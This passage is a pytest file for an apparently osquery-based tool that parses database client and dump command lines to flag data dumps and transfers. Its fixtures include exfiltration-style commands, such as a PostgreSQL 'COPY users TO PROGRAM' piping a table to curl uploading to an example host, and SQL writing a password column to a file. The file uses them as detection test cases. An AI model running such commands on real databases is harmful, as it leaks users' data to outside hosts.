"""cmdline.py: which tool runs, what it targets, whether it dumps, what a transfer sends.

Command lines are given in the two shapes the project receives: osquery's
audit `cmdline` (argv joined by spaces, the shell's quotes gone), split on
spaces here, and /proc/PID/cmdline argv (arguments may hold spaces), given as
lists.
"""

from __future__ import annotations

import pytest

from osq_dbwatch import catalog
from osq_dbwatch.cmdline import (
    DbCommand,
    basename,
    identify_db_tool,
    identify_transfer_tool,
    parse_db_command,
    parse_transfer_command,
    real_program,
    resolve_path,
    sql_dump_intent,
)


def argv_of(cmdline: str | list[str]) -> list[str]:
    return cmdline.split() if isinstance(cmdline, str) else cmdline


def db(path: str, cmdline: str | list[str]) -> DbCommand:
    parsed = parse_db_command(path, argv_of(cmdline))
    assert parsed is not None, f"{cmdline!r} not recognised as a DB command"
    return parsed


# ---------------------------------------------------------------------------
# Identification


@pytest.mark.parametrize(
    ("path", "cmdline", "tool", "engine", "kind"),
    [
        # Debian's psql is a Perl wrapper: the first exec is perl running /usr/bin/psql
        ("/usr/bin/perl", "/usr/bin/perl /usr/bin/psql -h x", "psql", "postgres", "client"),
        ("/usr/bin/perl", "/usr/bin/perl /usr/bin/pg_dump -f /tmp/a.sql db", "pg_dump", "postgres", "dump"),
        # then the real binary from the versioned directory
        ("/usr/lib/postgresql/15/bin/psql", "/usr/lib/postgresql/15/bin/psql -h x", "psql", "postgres", "client"),
        ("/usr/lib/postgresql/16/bin/pg_dumpall", "/usr/lib/postgresql/16/bin/pg_dumpall", "pg_dumpall", "postgres", "dump"),
        # mysql is a symlink to mariadb: path says mariadb, argv[0] says mysql
        ("/usr/bin/mariadb", "mysql -u root app", "mysql", "mysql", "client"),
        ("/usr/bin/mariadb-dump", "mysqldump app", "mysqldump", "mysql", "dump"),
        ("/usr/bin/mariadb", "mariadb -u root", "mariadb", "mysql", "client"),
        # wrappers
        ("/usr/bin/sudo", "sudo -u postgres psql", "psql", "postgres", "client"),
        ("/usr/bin/sudo", "sudo -E -u postgres psql -h h", "psql", "postgres", "client"),
        ("/usr/bin/sudo", "sudo -u postgres -E -H pg_dump db", "pg_dump", "postgres", "dump"),
        ("/usr/bin/sudo", "sudo --user=postgres -- psql", "psql", "postgres", "client"),
        ("/usr/bin/env", "env PGPASSWORD=x psql -h h", "psql", "postgres", "client"),
        ("/usr/bin/env", "env -i PATH=/usr/bin psql -h h", "psql", "postgres", "client"),
        ("/usr/bin/timeout", "timeout 30 pg_dump db", "pg_dump", "postgres", "dump"),
        ("/usr/bin/timeout", "timeout -s KILL 30 pg_dump db", "pg_dump", "postgres", "dump"),
        ("/usr/bin/timeout", "timeout --signal=KILL 30s mysqldump db", "mysqldump", "mysql", "dump"),
        ("/usr/bin/nice", "nice -n 10 ionice -c 3 pg_dump db", "pg_dump", "postgres", "dump"),
        ("/usr/bin/sudo", "sudo -u postgres timeout 30 env PGHOST=x psql", "psql", "postgres", "client"),
        ("/usr/sbin/runuser", "runuser -u postgres -- pg_dumpall", "pg_dumpall", "postgres", "dump"),
        ("/usr/bin/python3.11", "/usr/bin/python3.11 /usr/bin/pgcli db", "pgcli", "postgres", "client"),
        ("/usr/bin/flock", "flock -E 0 pg_dump db", "pg_dump", "postgres", "dump"),
        # multi-purpose binaries with sub-commands
        ("/usr/bin/clickhouse", "clickhouse client --host ch1", "clickhouse client", "clickhouse", "client"),
        ("/usr/bin/cockroach", "cockroach sql --host=crdb", "cockroach sql", "cockroach", "client"),
        ("/usr/bin/cockroach", "cockroach dump bank --host=crdb", "cockroach dump", "cockroach", "dump"),
        ("/usr/bin/influx", "influx backup /tmp/b", "influx backup", "influx", "dump"),
        ("/usr/bin/influx", "influx -host h", "influx", "influx", "client"),
        ("/usr/bin/redis-cli", "redis-cli --rdb /tmp/d.rdb", "redis-cli", "redis", "dump"),
        ("/usr/bin/redis-cli", "redis-cli -h r1", "redis-cli", "redis", "client"),
        # duckdb: one catalog entry, no parser code of its own
        ("/usr/local/bin/duckdb", "duckdb /srv/a.duckdb", "duckdb", "duckdb", "client"),
        ("/usr/bin/python3.11", "python3 /usr/local/bin/duckdb -readonly a.duckdb", "duckdb", "duckdb", "client"),
    ],
)
def test_identifies_tool(path: str, cmdline: str, tool: str, engine: str, kind: str) -> None:
    parsed = db(path, cmdline)
    assert (parsed.tool, parsed.engine, parsed.kind) == (tool, engine, kind)


@pytest.mark.parametrize(
    ("path", "cmdline"),
    [
        ("/usr/bin/ls", "ls -l /usr/bin/psql"),
        ("/usr/bin/grep", "grep psql /etc/passwd"),
        ("/usr/bin/vim", "vim x.sql"),
        ("/usr/bin/python3", "python3 -m psql_helper"),
        ("/usr/bin/python3", "/usr/bin/python3 /opt/tools/mysql.py -h x"),
        ("/usr/bin/man", "man psql"),
        ("/usr/bin/which", "which mysql"),
        ("/usr/bin/cockroach", "cockroach start --insecure"),  # the server, not a client
        ("/usr/bin/clickhouse", "clickhouse server"),
        ("/usr/bin/clickhouse", "clickhouse"),
        ("/usr/bin/sudo", "sudo -u postgres"),  # a wrapper with nothing after it
        ("/usr/bin/perl", "/usr/bin/perl -e print"),
        ("/usr/sbin/mysqld", "/usr/sbin/mysqld --user=mysql"),
        ("/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: checkpointer"),
        ("", ""),
    ],
)
def test_non_db_commands_not_matched(path: str, cmdline: str) -> None:
    assert parse_db_command(path, argv_of(cmdline)) is None
    assert identify_db_tool(path, argv_of(cmdline)) is None


@pytest.mark.parametrize(
    "argv",
    [
        ["mongosh" + " " * 60],  # mongosh rewrites its title: "mongosh " and padding, one argument
        ["mongosh ", "", "", ""],  # the padding as NULs
        ["mongosh mongodb://<credentials>@127.0.0.1:27017/app?appName=mongosh"],
    ],
)
def test_rewritten_process_title(argv: list[str]) -> None:
    parsed = parse_db_command("/usr/bin/node", argv)
    assert parsed is not None and (parsed.tool, parsed.engine) == ("mongosh", "mongo")
    assert parsed.user == ""  # mongosh's <credentials> placeholder is not a user


def test_rewritten_title_target() -> None:
    parsed = db("/usr/bin/node", ["mongosh mongodb://<credentials>@db1:27018/app"])
    assert (parsed.host, parsed.port, parsed.database) == ("db1", "27018", "app")
    # a real argv[0] with a space in a directory name is not a title
    assert db("/opt/My Tools/bin/psql", ["/opt/My Tools/bin/psql", "-h", "db1"]).host == "db1"
    assert parse_db_command("/usr/lib/postgresql/15/bin/postgres", ["postgres: 15/main: bob sales [local] idle"]) is None


def test_identify_returns_arguments_after_the_program() -> None:
    found = identify_db_tool("/usr/bin/perl", ["/usr/bin/perl", "/usr/bin/psql", "-h", "x"])
    assert found is not None
    tool, args = found
    assert tool is catalog.DB_TOOLS_BY_NAME["psql"]
    assert args == ("-h", "x")


def test_real_program_and_basename() -> None:
    assert real_program("/usr/bin/sudo", ["sudo", "-u", "postgres", "env", "A=1", "psql", "x"]).name == "psql"
    assert real_program("/usr/bin/psql", []).name == "psql"
    assert basename("/usr/bin/psql") == "psql"
    assert basename("/usr/bin/") == "bin"
    assert basename("") == ""


def test_extra_tools_from_config_are_identified() -> None:
    table = catalog.db_tools_with_extras((("vsql", "generic"),), (("pgcopydb", "postgres"),))
    found = identify_db_tool("/opt/vertica/bin/vsql", ["vsql", "-h", "v"], table)
    assert found is not None and found[0].kind == "client"
    parsed = parse_db_command("/usr/bin/pgcopydb", ["pgcopydb", "clone"], table)
    assert parsed is not None and parsed.kind == "dump" and parsed.engine == "postgres"
    assert identify_db_tool("/opt/vertica/bin/vsql", ["vsql"]) is None  # not in the default table


def test_identify_transfer_tool() -> None:
    found = identify_transfer_tool("/usr/bin/sudo", ["sudo", "curl", "-T", "/tmp/x", "https://e.example"])
    assert found is not None and found[0].name == "curl" and found[0].kind == "transfer"
    found = identify_transfer_tool("/usr/bin/tar", ["tar", "czf", "a.tgz", "b"])
    assert found is not None and found[0].kind == "staging"
    assert identify_transfer_tool("/usr/bin/psql", ["psql"]) is None


# ---------------------------------------------------------------------------
# Options that take a value: their value is never the database (catalog.OptionSpec)

P = list[str]  # a /proc argv: one list item per argument, quotes already applied


VALUE_OPTION_TARGETS = [
    # mongosh/mongo: --authenticationDatabase names where the user is defined, not the target
    ("/usr/bin/mongosh", "mongosh --authenticationDatabase admin", "", "", "", ""),
    ("/usr/bin/mongosh", "mongosh --authenticationDatabase=admin", "", "", "", ""),
    ("/usr/bin/mongosh", "mongosh -u bob --authenticationDatabase admin mongodb://h1/app", "h1", "", "app", "bob"),
    ("/usr/bin/mongosh", "mongosh -u bob --authenticationDatabase admin h1:27017/app", "h1", "27017", "app", "bob"),
    ("/usr/bin/mongosh", "mongosh --authenticationDatabase admin -u bob app", "", "", "app", "bob"),
    ("/usr/bin/mongosh", "mongosh --authenticationDatabase=admin --authenticationMechanism SCRAM-SHA-256 app",
     "", "", "app", ""),
    ("/usr/bin/mongo", "mongo --authenticationDatabase admin -u bob db1:27018/app", "db1", "27018", "app", "bob"),
    # mongosh's db address: HOST:PORT and a dotted word are hosts, a plain word the database
    ("/usr/bin/mongosh", "mongosh db1:27018", "db1", "27018", "", ""),
    ("/usr/bin/mongosh", "mongosh db1.example.net", "db1.example.net", "", "", ""),
    # --nodb: no server; FILE.js / FILE.mongodb are scripts, never the target
    ("/usr/bin/mongosh", "mongosh --nodb admin.js", "", "", "", ""),
    ("/usr/bin/mongosh", "mongosh --nodb --authenticationDatabase admin", "", "", "", ""),
    ("/usr/bin/mongosh", "mongosh export.js", "", "", "", ""),
    ("/usr/bin/mongosh", "mongosh app export.mongodb", "", "", "app", ""),
    ("/usr/bin/mongosh", "mongosh --tlsCAFile /etc/ca.pem --tls db1:27017/app", "db1", "27017", "app", ""),
    ("/usr/bin/mongosh", "mongosh -f /tmp/x.js app", "", "", "app", ""),
    # the Go tools: -d/--db or the connection string; no other plain argument is a target
    ("/usr/bin/mongodump", "mongodump --authenticationDatabase admin -u bob --db app -o /tmp/d", "", "", "app", "bob"),
    ("/usr/bin/mongodump", "mongodump --authenticationDatabase admin --uri mongodb://h1/app", "h1", "", "app", ""),
    ("/usr/bin/mongodump", "mongodump --authenticationDatabase=admin mongodb://h1:27018/app", "h1", "27018", "app", ""),
    ("/usr/bin/mongodump", "mongodump -h h1 --authenticationDatabase admin --archive --gzip", "h1", "", "", ""),
    ("/usr/bin/mongoexport", "mongoexport --authenticationDatabase admin -c users -d app --out /tmp/u.json",
     "", "", "app", ""),
    ("/usr/bin/mongoexport", "mongoexport -h h1 --collection users --type csv --fields a,b -o /tmp/u.csv",
     "h1", "", "", ""),
    # sqlite3 / duckdb: the first plain argument that is not an option's value is the database file
    ("/usr/bin/sqlite3", ["sqlite3", "-cmd", ".output /tmp/x.csv", "app.db", "select * from t"], "", "", "app.db", ""),
    ("/usr/bin/sqlite3", "sqlite3 -cmd .output /tmp/x.csv app.db select * from t", "", "", "app.db", ""),
    ("/usr/bin/sqlite3", ["sqlite3", "-cmd", ".mode csv", "-cmd", ".headers on", "data", "select 1"],
     "", "", "data", ""),
    ("/usr/bin/sqlite3", ["sqlite3", "-header", "-csv", "app.db", "select * from t"], "", "", "app.db", ""),
    ("/usr/bin/sqlite3", "sqlite3 -init f.sql app.db", "", "", "app.db", ""),
    ("/usr/bin/sqlite3", "sqlite3 --init f.sql app.db", "", "", "app.db", ""),
    ("/usr/bin/sqlite3", "sqlite3 -separator , -nullvalue NULL -newline x app.db", "", "", "app.db", ""),
    ("/usr/bin/sqlite3", "sqlite3 -lookaside 100 10 -pagecache 64 8 -vfs unix app.db", "", "", "app.db", ""),
    ("/usr/bin/sqlite3", "sqlite3 -mmap 0 -maxsize 9 -nonce abc app.db .tables", "", "", "app.db", ""),
    ("/usr/bin/sqlite3", "sqlite3 app.db -cmd .dump", "", "", "app.db", ""),
    ("/usr/local/bin/duckdb", ["duckdb", "-c", "COPY t TO '/tmp/x.csv'", "file.duckdb"], "", "", "file.duckdb", ""),
    ("/usr/local/bin/duckdb", "duckdb -c COPY t TO '/tmp/x.csv' file.duckdb", "", "", "file.duckdb", ""),
    ("/usr/local/bin/duckdb", ["duckdb", "-cmd", ".mode csv", "-s", "select 1", "analytics"], "", "", "analytics", ""),
    ("/usr/local/bin/duckdb", "duckdb -init /etc/x.sql -nullvalue NULL file.duckdb", "", "", "file.duckdb", ""),
    ("/usr/bin/litecli", "litecli -R x> -l /tmp/l.log app.db", "", "", "app.db", ""),
    # clickhouse-client: server settings are options with values; its plain argument is a connection string
    ("/usr/bin/clickhouse-client", "clickhouse-client --max_threads 8 --host ch1", "ch1", "", "", ""),
    ("/usr/bin/clickhouse-client", "clickhouse-client clickhouse://u:pw@ch1:9000/logs", "ch1", "9000", "logs", "u"),
    # sqlcmd takes no plain argument: -h/-s/-t/-w take values
    ("/opt/mssql-tools18/bin/sqlcmd", "sqlcmd -S sql1 -h -1 -s , -w 200 -t 30", "sql1", "", "", ""),
    # cockroach sql --format takes a value
    ("/usr/bin/cockroach", "cockroach sql --format csv --host crdb", "crdb", "", "", ""),
]


# ---------------------------------------------------------------------------
# Targets


@pytest.mark.parametrize(
    ("path", "cmdline", "host", "port", "database", "user"),
    [
        # PostgreSQL
        ("/usr/bin/psql", "psql -h db1 -p 5432 -U bob sales", "db1", "5432", "sales", "bob"),
        ("/usr/bin/psql", "psql -hdb1 -p5433 -Ubob -dsales", "db1", "5433", "sales", "bob"),
        ("/usr/bin/psql", "psql --host=db1 --port=5433 --username=bob --dbname=sales", "db1", "5433", "sales", "bob"),
        ("/usr/bin/psql", "psql sales bob", "", "", "sales", "bob"),
        ("/usr/bin/psql", "psql -h db1 sales", "db1", "", "sales", ""),
        ("/usr/bin/psql", "psql postgresql://bob:pw@db1:5432/sales", "db1", "5432", "sales", "bob"),
        ("/usr/bin/psql", "psql -d postgresql://bob:pw@db1:5433/sales", "db1", "5433", "sales", "bob"),
        ("/usr/bin/psql", "psql --dbname=postgres://bob@db1/sales", "db1", "", "sales", "bob"),
        ("/usr/bin/psql", ["psql", "host=db1 port=5433 dbname=sales user=bob password=pw"], "db1", "5433", "sales", "bob"),
        ("/usr/bin/psql", "psql host=db1 dbname=sales user=bob password=pw", "db1", "", "sales", "bob"),
        ("/usr/bin/psql", ["psql", "-d", "host=db1 dbname=sales"], "db1", "", "sales", ""),
        ("/usr/bin/pg_dump", "pg_dump -h db1 -U bob -f /tmp/a.sql sales", "db1", "", "sales", "bob"),
        ("/usr/bin/pg_basebackup", "pg_basebackup -h db1 -U rep -D /tmp/base", "db1", "", "", "rep"),
        # MySQL / MariaDB
        ("/usr/bin/mariadb", "mysql -h db1 -P 3307 -u bob sales", "db1", "3307", "sales", "bob"),
        ("/usr/bin/mariadb", "mysql -hdb1 -P3307 -ubob -Dsales", "db1", "3307", "sales", "bob"),
        ("/usr/bin/mariadb", "mysql --host=db1 --port=3307 --user=bob --database=sales", "db1", "3307", "sales", "bob"),
        ("/usr/bin/mariadb", "mysql -h db1 -u bob -pSECRET sales", "db1", "", "sales", "bob"),
        ("/usr/bin/mariadb", "mysql -h db1 -u bob -p sales", "db1", "", "sales", "bob"),
        ("/usr/bin/mariadb-dump", "mysqldump -u root --single-transaction app", "", "", "app", "root"),
        # /proc argv after the client masked its password: `-pSECRET` reads back as `-px` `xxxxx`
        ("/usr/bin/mariadb", ["mysql", "-h", "db1", "-u", "bob", "-px", "xxxxx", "sales"], "db1", "", "sales", "bob"),
        ("/usr/bin/mariadb", ["mysql", "-u", "bob", "--password=x", "xxxxxxx", "sales"], "", "", "sales", "bob"),
        # the client's -r (--raw) and -T (--debug-info) are flags; -S takes the socket
        ("/usr/bin/mariadb", "mysql -T -r -u root shop", "", "", "shop", "root"),
        ("/usr/bin/mariadb", "mysql -S /run/mysqld/mysqld.sock -u root shop", "", "", "shop", "root"),
        ("/usr/bin/mariadb-dump", "mysqldump -u root --where id=1 shop users", "", "", "shop", "root"),
        ("/usr/bin/pg_dump", "pg_dump -Fd -j 4 -n public -t users -f /tmp/d shop", "", "", "shop", ""),
        ("/usr/bin/pg_dump", "pg_dump -F c -Z 9 -U bob shop", "", "", "shop", "bob"),
        ("/usr/bin/mysqlsh", "mysqlsh root:pw@db1:3306", "db1", "3306", "", "root"),
        ("/usr/bin/mysqlsh", "mysqlsh --uri root@db1:3306/app", "db1", "3306", "app", "root"),
        ("/usr/bin/mycli", "mycli mysql://bob:pw@db1/app", "db1", "", "app", "bob"),
        ("/usr/bin/mydumper", "mydumper -h db1 -u bob -p pw -B app -o /tmp/dd", "db1", "", "app", "bob"),
        # MongoDB
        ("/usr/bin/mongosh", "mongosh db1:27018/admin", "db1", "27018", "admin", ""),
        ("/usr/bin/mongosh", "mongosh db1/admin", "db1", "", "admin", ""),
        ("/usr/bin/mongosh", "mongosh admin", "", "", "admin", ""),
        ("/usr/bin/mongosh", "mongosh mongodb://u:pw@db1:27017/admin", "db1", "27017", "admin", "u"),
        ("/usr/bin/mongosh", "mongosh --host db1 --port 27018 app", "db1", "27018", "app", ""),
        ("/usr/bin/mongosh", "mongosh --host db1:27019 -u adm", "db1", "27019", "", "adm"),
        ("/usr/bin/mongosh", "mongosh --host mongodb://u:pw@db1:27017/admin", "db1", "27017", "admin", "u"),
        ("/usr/bin/mongodump", "mongodump --uri=mongodb://u:pw@db1:27017/admin --out /tmp/d", "db1", "27017", "admin", "u"),
        ("/usr/bin/mongodump", "mongodump --uri mongodb+srv://u:pw@cluster0.example.net/app", "cluster0.example.net", "", "app", "u"),
        # Redis
        ("/usr/bin/redis-cli", "redis-cli -h r1 -p 6380 -n 2", "r1", "6380", "2", ""),
        ("/usr/bin/redis-cli", "redis-cli -u redis://u:pw@r1:6380/2", "r1", "6380", "2", "u"),
        ("/usr/bin/redis-cli", "redis-cli -h r1 keys *", "r1", "", "", ""),
        # SQL Server
        ("/opt/mssql-tools18/bin/sqlcmd", "sqlcmd -S tcp:sql1,1433 -U sa -P pw -d app", "sql1", "1433", "app", "sa"),
        ("/opt/mssql-tools18/bin/sqlcmd", "sqlcmd -S sql1 -U sa -d app", "sql1", "", "app", "sa"),
        # Oracle
        ("/usr/bin/sqlplus", "sqlplus scott/tiger@orcl", "orcl", "", "", "scott"),
        ("/usr/bin/sqlplus", "sqlplus -s scott/tiger@//ora1:1521/orclpdb @x.sql", "ora1", "1521", "orclpdb", "scott"),
        # ClickHouse, Cassandra, CockroachDB, SQLite
        ("/usr/bin/clickhouse", "clickhouse client --host ch1 --port 9001 --user u -d logs", "ch1", "9001", "logs", "u"),
        ("/usr/bin/clickhouse-client", "clickhouse-client --host=ch1 --user=u --database=logs", "ch1", "", "logs", "u"),
        ("/usr/bin/cqlsh", "cqlsh -u cass -p pw cass1 9042", "cass1", "9042", "", "cass"),
        ("/usr/bin/influx", "influx -host i1 -port 8086 -username u -password pw -database metrics", "i1", "8086", "metrics", "u"),
        ("/usr/bin/influx", "influx query --host http://i1:8086 --org acme -t tok", "i1", "8086", "", "acme"),
        ("/usr/bin/cockroach", "cockroach sql --url postgresql://root:pw@crdb:26257/bank", "crdb", "26257", "bank", "root"),
        ("/usr/bin/sqlite3", "sqlite3 /var/lib/app/app.db", "", "", "/var/lib/app/app.db", ""),
        ("/usr/bin/usql", "usql pg://u:pw@db1/app", "db1", "", "app", "u"),
        ("/usr/local/bin/duckdb", "duckdb -readonly /srv/a.duckdb -c SELECT 1", "", "", "/srv/a.duckdb", ""),
        ("/usr/local/bin/duckdb", "duckdb -init /etc/x.sql /srv/b.duckdb", "", "", "/srv/b.duckdb", ""),
    ] + VALUE_OPTION_TARGETS,
)
def test_target(path: str, cmdline: str | list[str], host: str, port: str, database: str, user: str) -> None:
    parsed = db(path, cmdline)
    assert (parsed.host, parsed.port, parsed.database, parsed.user) == (host, port, database, user)


@pytest.mark.parametrize(
    ("path", "cmdline"),
    [
        ("/usr/bin/psql", "psql -d postgresql://bob:Sekr1tPw@db1/sales"),
        ("/usr/bin/psql", ["psql", "host=db1 dbname=sales password=Sekr1tPw"]),
        ("/usr/bin/psql", ["psql", "-d", "host=db1 password=Sekr1tPw dbname=sales"]),
        ("/usr/bin/mongosh", "mongosh --host mongodb://adm:Sekr1tPw@db1/admin"),
        ("/usr/bin/mysqlsh", "mysqlsh root:Sekr1tPw@db1:3306"),
        ("/usr/bin/mysqlsh", "mysqlsh --uri root:Sekr1tPw@db1:3306"),
        ("/usr/bin/redis-cli", "redis-cli -u redis://:Sekr1tPw@r1:6379"),
        ("/usr/bin/sqlplus", "sqlplus scott/Sekr1tPw@//ora1:1521/orcl"),
        ("/usr/bin/cockroach", "cockroach sql --url postgresql://root:Sekr1tPw@crdb:26257/bank"),
    ],
)
def test_parsed_fields_never_carry_a_password(path: str, cmdline: str | list[str]) -> None:
    parsed = db(path, cmdline)
    for value in (parsed.host, parsed.port, parsed.database, parsed.user, parsed.output_path, parsed.tool):
        assert "Sekr1tPw" not in value





@pytest.mark.parametrize(
    ("path", "cmdline", "database", "intent", "output"),
    [
        # a real argv: each SQL option takes one argument, the database file follows
        ("/usr/bin/sqlite3", ["sqlite3", "-cmd", ".output /tmp/x.csv", "app.db", "select * from t"],
         "app.db", ".output", "/tmp/x.csv"),
        ("/usr/bin/sqlite3", ["sqlite3", "-cmd", ".once /tmp/y.csv", "-cmd", ".headers on", "app.db", "select 1"],
         "app.db", ".output", "/tmp/y.csv"),
        ("/usr/bin/sqlite3", ["sqlite3", "-cmd", ".headers on", "-cmd", ".once /tmp/y.csv", "app.db", "select 1"],
         "app.db", ".output", "/tmp/y.csv"),
        ("/usr/bin/sqlite3", ["sqlite3", "-header", "-csv", "app.db", "select * from users"], "app.db", "", ""),
        ("/usr/bin/sqlite3", ["sqlite3", "app.db", ".backup /tmp/copy.db"], "app.db", ".output", "/tmp/copy.db"),
        # logged (quotes gone): the database is the first word named like a database file, not the dump target
        ("/usr/bin/sqlite3", "sqlite3 -cmd .output /tmp/x.db app.db select * from t", "app.db", ".output", "/tmp/x.db"),
        ("/usr/bin/sqlite3", "sqlite3 -cmd .once /tmp/y.csv app.sqlite3", "app.sqlite3", ".output", "/tmp/y.csv"),
        ("/usr/bin/sqlite3", "sqlite3 -cmd attach 'other.db' as o app.db .once /tmp/z.csv", "app.db", ".output",
         "/tmp/z.csv"),
        ("/usr/local/bin/duckdb", ["duckdb", "-c", "COPY t TO '/tmp/x.csv'", "file.duckdb"], "file.duckdb", "COPY TO",
         "/tmp/x.csv"),
        ("/usr/local/bin/duckdb", ["duckdb", "-cmd", ".output /tmp/o.csv", "-c", "select 1", "file.duckdb"],
         "file.duckdb", ".output", "/tmp/o.csv"),
        ("/usr/local/bin/duckdb", "duckdb -c COPY t TO '/tmp/x.csv' file.duckdb", "file.duckdb", "COPY TO",
         "/tmp/x.csv"),
        # psql from /proc: the statement is one argument, the database after it is read
        ("/usr/bin/psql", ["psql", "-c", "\\copy t to '/tmp/x.csv' csv", "-h", "db1", "sales"], "sales", "\\copy to",
         "/tmp/x.csv"),
        ("/usr/bin/mongosh", ["mongosh", "--quiet", "--eval", "db.users.find({}, {pw: 0})", "--authenticationDatabase", "admin",
                              "app"], "app", "", ""),
    ],
)
def test_database_file_after_statement_options(path: str, cmdline: str | P, database: str, intent: str,
                                               output: str) -> None:
    parsed = db(path, cmdline)
    assert (parsed.database, parsed.dump_intent, parsed.output_path) == (database, intent, output)


def test_exactness_can_be_told() -> None:
    # a /proc argv whose statement holds no space reads like a logged line unless the caller says what it is
    argv = ["mongosh", "--eval", "db.users.find()", "app"]
    assert db("/usr/bin/mongosh", argv).database == ""
    exact = parse_db_command("/usr/bin/mongosh", argv, argv_exact=True)
    assert exact is not None and exact.database == "app"
    logged = parse_db_command("/usr/bin/mongosh", ["mongosh", "--eval", "db.x.find( {} )", "app"], argv_exact=False)
    assert logged is not None and logged.database == ""


# ---------------------------------------------------------------------------
# Dump intent and output path


@pytest.mark.parametrize(
    ("path", "cmdline", "intent", "output"),
    [
        ("/usr/bin/pg_dump", "pg_dump -f /tmp/x.sql db", "pg_dump", "/tmp/x.sql"),
        ("/usr/bin/pg_dump", "pg_dump --file=/tmp/x.sql db", "pg_dump", "/tmp/x.sql"),
        ("/usr/bin/pg_dump", "pg_dump --file /tmp/x.sql db", "pg_dump", "/tmp/x.sql"),
        ("/usr/bin/pg_dump", "pg_dump -f/tmp/x.sql db", "pg_dump", "/tmp/x.sql"),
        ("/usr/bin/pg_dump", "pg_dump -Fc db", "pg_dump", ""),  # to stdout: still a dump
        ("/usr/bin/pg_dumpall", "pg_dumpall --file=/tmp/all.sql", "pg_dumpall", "/tmp/all.sql"),
        ("/usr/bin/psql", "psql -o /tmp/o.txt db", "output file", "/tmp/o.txt"),
        ("/usr/bin/psql", "psql --output=/tmp/o.txt db", "output file", "/tmp/o.txt"),
        ("/usr/bin/psql", "psql -c select * from users -o /tmp/o.txt", "output file", "/tmp/o.txt"),
        ("/usr/bin/psql", ["psql", "-c", "select * from users", "-o", "/tmp/o.txt"], "output file", "/tmp/o.txt"),
        ("/usr/bin/psql", "psql --csv -c select * from users", "--csv", ""),
        ("/usr/bin/mongoexport", "mongoexport --db app --collection users --out /tmp/u.json", "mongoexport", "/tmp/u.json"),
        ("/usr/bin/mongoexport", "mongoexport -d app -c users -o /tmp/u.json", "mongoexport", "/tmp/u.json"),
        ("/usr/bin/mongodump", "mongodump --out=/tmp/d", "mongodump", "/tmp/d"),
        ("/usr/bin/mongodump", "mongodump --archive=/tmp/a.gz --gzip", "mongodump", "/tmp/a.gz"),
        ("/usr/bin/mariadb-dump", "mysqldump -u root --result-file=/tmp/a.sql app", "mysqldump", "/tmp/a.sql"),
        ("/usr/bin/mariadb-dump", "mysqldump -u root -r /tmp/a.sql app", "mysqldump", "/tmp/a.sql"),
        ("/usr/bin/mariadb-dump", "mysqldump -u root -r/tmp/a.sql app", "mysqldump", "/tmp/a.sql"),
        ("/usr/bin/mariadb-dump", "mysqldump -T /tmp/tabs app", "mysqldump", "/tmp/tabs"),
        ("/usr/bin/mariadb-dump", "mysqldump --tab=/tmp/tabs app", "mysqldump", "/tmp/tabs"),
        ("/usr/bin/mariadb", "mysql --tee=/tmp/session.log app", "output file", "/tmp/session.log"),
        ("/usr/bin/mariadb", "mysql -r -T -e SELECT 1", "", ""),  # flags, not files
        ("/usr/bin/mydumper", "mydumper -B app -o /tmp/dd", "mydumper", "/tmp/dd"),
        ("/usr/bin/mariabackup", "mariabackup --backup --target-dir=/tmp/b", "mariabackup", "/tmp/b"),
        ("/usr/bin/redis-cli", "redis-cli -h r1 --rdb /tmp/dump.rdb", "--rdb", "/tmp/dump.rdb"),
        # \copy as audit delivers it (quotes gone) and as /proc argv (one argument)
        ("/usr/lib/postgresql/15/bin/psql", "psql -h h db -c \\copy t to '/tmp/x.csv' csv", "\\copy to", "/tmp/x.csv"),
        ("/usr/bin/psql", "psql -c \\copy (select * from users) to /tmp/x.csv csv header", "\\copy to", "/tmp/x.csv"),
        ("/usr/bin/psql", ["psql", "-h", "h", "db", "-c", "\\copy t to '/tmp/x.csv' csv"], "\\copy to", "/tmp/x.csv"),
        ("/usr/bin/psql", ["psql", "--command=\\copy t to '/tmp/y.csv'"], "\\copy to", "/tmp/y.csv"),
        ("/usr/bin/psql", "psql -c \\copy t to stdout", "COPY TO STDOUT", ""),
        ("/usr/bin/psql", "psql -c \\copy t to program gzip>/tmp/x", "\\copy to program", ""),
        ("/usr/bin/psql", "psql -c COPY users TO '/var/lib/postgresql/u.csv'", "COPY TO", "/var/lib/postgresql/u.csv"),
        ("/usr/bin/psql", "psql -c COPY users TO PROGRAM 'curl -T - https://e.example'", "COPY TO PROGRAM", ""),
        ("/usr/bin/psql", "psql -c COPY users TO STDOUT", "COPY TO STDOUT", ""),
        ("/usr/bin/mariadb", "mysql -e SELECT * FROM users INTO OUTFILE '/tmp/u.csv'", "INTO OUTFILE", "/tmp/u.csv"),
        ("/usr/bin/mariadb", ["mysql", "-e", "select * from users into outfile \"/tmp/u.csv\""], "INTO OUTFILE", "/tmp/u.csv"),
        ("/usr/bin/mariadb", "mysql --execute=SELECT pw FROM users INTO DUMPFILE '/tmp/u.bin'", "INTO DUMPFILE", "/tmp/u.bin"),
        ("/usr/bin/clickhouse", "clickhouse client -q SELECT * FROM t INTO OUTFILE 'x.csv'", "INTO OUTFILE", "x.csv"),
        ("/opt/mssql-tools18/bin/bcp", "bcp dbo.users out /tmp/u.dat -S sql1 -U sa -c", "bcp out", "/tmp/u.dat"),
        ("/opt/mssql-tools18/bin/bcp", "bcp SELECT_1 queryout /tmp/q.dat -S sql1", "bcp queryout", "/tmp/q.dat"),
        ("/opt/mssql-tools18/bin/sqlcmd", "sqlcmd -S s -Q SELECT 1 -o /tmp/o.txt", "output file", "/tmp/o.txt"),
        ("/usr/bin/sqlite3", "sqlite3 app.db .output /tmp/x.sql", ".output", "/tmp/x.sql"),
        ("/usr/bin/sqlite3", ["sqlite3", "app.db", ".dump"], ".dump", ""),
        ("/usr/bin/sqlite3", ["sqlite3", "-cmd", ".once /tmp/y.csv", "app.db"], ".output", "/tmp/y.csv"),
        ("/usr/bin/cqlsh", "cqlsh cass1 -e COPY ks.t TO '/tmp/t.csv'", "COPY TO", "/tmp/t.csv"),
        ("/u01/app/oracle/bin/expdp", "expdp system/pw@orcl dumpfile=x.dmp directory=D", "expdp", "x.dmp"),
        ("/usr/bin/influx", "influx backup /tmp/b -t tok", "influx backup", "/tmp/b"),
        ("/usr/bin/cockroach", "cockroach dump bank --insecure", "cockroach dump", ""),
        # duckdb: COPY ... TO, .output and .once, from -c / -cmd / -s, /proc argv and audit form
        ("/usr/local/bin/duckdb", ["duckdb", "file.duckdb", "-c", "COPY t TO '/tmp/x.csv'"], "COPY TO", "/tmp/x.csv"),
